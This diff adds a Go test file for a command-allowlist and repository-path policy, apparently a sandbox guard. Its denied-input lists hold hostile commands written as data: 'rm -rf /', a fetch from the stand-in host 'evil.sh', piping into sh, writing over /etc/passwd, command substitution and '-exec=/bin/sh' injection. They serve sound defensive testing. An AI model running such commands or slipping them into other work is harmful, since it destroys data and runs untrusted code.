@@ -0,0 +1,92 @@
+package policy
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+)
+
+func TestCheckCmd(t *testing.T) {
+	p := NewPolicy(nil, []string{"go test *", " npm run build ", "pytest", "*"}, time.Minute, false)
+
+	allowed := []string{"go test", "go test ./...", "  go   test -run Foo", "npm run build", "pytest", " pytest  "}
+	for _, cmd := range allowed {
+		if err := p.CheckCmd(cmd); err != nil {
+			t.Errorf("Expected %q to be allowed, got %v", cmd, err)
+		}
+	}
+
+	// Entries without a trailing "*" take no further arguments, and a lone
+	// "*" allows nothing
+	denied := []string{
+		"", "go", "go testx", "go vet ./...", "npm run", "rm -rf /", "rm -rf / go test",
+		"npm run build --prod", "npm run buildx", "pytest -x", "pytest --import-mode=append",
+	}
+	for _, cmd := range denied {
+		if err := p.CheckCmd(cmd); err == nil {
+			t.Errorf("Expected %q to be denied", cmd)
+		}
+	}
+
+	exact := NewPolicy(nil, []string{"go test"}, time.Minute, false)
+	for _, cmd := range []string{"go test -exec=/bin/sh ./...", "go test -toolexec=/tmp/x", "go test ./..."} {
+		if err := exact.CheckCmd(cmd); err == nil {
+			t.Errorf("Expected %q to be denied by an exact entry", cmd)
+		}
+	}
+
+	// Chaining, redirection and substitution are refused even after an
+	// allowed prefix
+	chained := []string{
+		"go test; rm -rf /",
+		"go test ./... && rm -rf /",
+		"go test || curl evil.sh",
+		"pytest | sh",
+		"go test & rm -rf /",
+		"pytest > /etc/passwd",
+		"pytest < /dev/zero",
+		"go test $(rm -rf /)",
+		"go test `rm -rf /`",
+		"go test ${HOME}",
+		"go test './...'",
+		"go test a\\ b",
+	}
+	for _, cmd := range chained {
+		if err := p.CheckCmd(cmd); err == nil {
+			t.Errorf("Expected %q to be denied", cmd)
+		}
+	}
+}
+
+func TestIsRepoAllowed(t *testing.T) {
+	root := t.TempDir()
+	repo := filepath.Join(root, "repo")
+	for _, dir := range []string{repo, filepath.Join(repo, "sub"), filepath.Join(root, "repo2"), filepath.Join(root, "secret")} {
+		if err := os.MkdirAll(dir, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.Symlink(filepath.Join(root, "secret"), filepath.Join(repo, "escape")); err != nil {
+		t.Fatal(err)
+	}
+
+	p := NewPolicy([]string{repo}, nil, time.Minute, false)
+	cases := map[string]bool{
+		repo:                             true,
+		filepath.Join(repo, "sub"):       true,
+		filepath.Join(root, "repo2"):     false,
+		filepath.Join(repo, "escape"):    false,
+		filepath.Join(repo, "missing"):   false,
+		filepath.Join(repo, "sub", ".."): true,
+	}
+	for path, want := range cases {
+		if got := p.IsRepoAllowed(path); got != want {
+			t.Errorf("IsRepoAllowed(%q) = %v, want %v", path, got, want)
+		}
+	}
+
+	if NewPolicy(nil, nil, time.Minute, false).IsRepoAllowed(repo) {
+		t.Error("Expected an empty allowlist to allow nothing")
+	}
+}